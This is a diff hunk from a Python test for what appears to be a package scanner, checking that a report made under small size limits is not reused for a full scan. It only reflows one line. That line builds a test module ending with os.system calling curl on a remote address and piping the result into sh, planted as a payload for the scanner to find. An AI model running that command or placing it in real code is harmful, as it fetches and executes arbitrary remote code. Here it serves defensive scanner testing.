@@ -362,7 +362,10 @@ def test_the_scanner_answers_a_second_scan_from_the_cache(tmp_path: Path) -> Non
 def test_a_report_made_under_other_limits_is_not_reused(tmp_path: Path) -> None:
     # Under small limits the module is too large to keep whole and its payload lies beyond the
     # excerpt; the report made from that excerpt must not answer for a scan that reads it whole.
-    module = "".join(f"value_{n} = compute({n})\n" for n in range(20_000)) + "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
+    module = (
+        "".join(f"value_{n} = compute({n})\n" for n in range(20_000))
+        + "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
+    )
     paths = []
     for other in ("a", "b"):  # two releases (two sha256) sharing the large module byte for byte
         path = tmp_path / other / wheel_filename("demo", "1.0")
